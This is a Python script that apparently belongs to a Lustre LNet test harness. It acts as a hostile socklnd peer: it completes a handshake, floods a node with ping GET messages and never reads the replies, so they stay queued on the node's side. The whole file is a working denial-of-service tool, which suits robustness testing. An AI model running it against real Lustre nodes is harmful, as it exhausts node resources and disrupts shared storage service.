#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
# A hostile socklnd peer: one connection (acceptor request, HELLO V3 CONTROL), then N LNet ping GETs
# sent back to back, and never a byte read after the handshake, so every REPLY the node makes stays
# queued on its side. Prints "sent N" once the GETs are in the socket, then holds the connection open
# until killed. Encoders written from lnet-wire.md §2.3, §2.4, §2.6 (as many_peers.py).
# Usage: flood_gets.py NODE_ADDR SRC_ADDR N
import socket, struct, sys, time
from lnet_peer import (CONN_CONTROL, HELLO_MAGIC, LNET_GET, PID_LUSTRE, active_handshake, get_msg, ksock_hdr,
                       lnet_hdr, nid)

node_ip, src_ip, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
dst, src = nid(node_ip), nid(src_ip)

s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # do not let the kernel absorb the replies
s.bind((src_ip, 1022))
s.settimeout(60)
s.connect((node_ip, 988))
magic, ver = active_handshake(s, src, dst, PID_LUSTRE, 4242, CONN_CONTROL)[:2]
assert magic == HELLO_MAGIC and ver == 3, (hex(magic), ver)

def get(i):
    # ksock_msg (LNET) + lnet_hdr GET for the ping portal 0 / LNET_PROTO_PING_MATCHBITS
    msg = get_msg(struct.pack("<QQ", 0x1111, i), 0x8000000000000000, 0, 0, 3960)
    return ksock_hdr() + lnet_hdr(dst, src, PID_LUSTRE, PID_LUSTRE, LNET_GET, 0, msg)

batch = 1000
for start in range(0, n, batch):
    s.sendall(b"".join(get(i) for i in range(start, min(n, start + batch))))
print("sent %d" % n, flush=True)
while True:
    time.sleep(60)
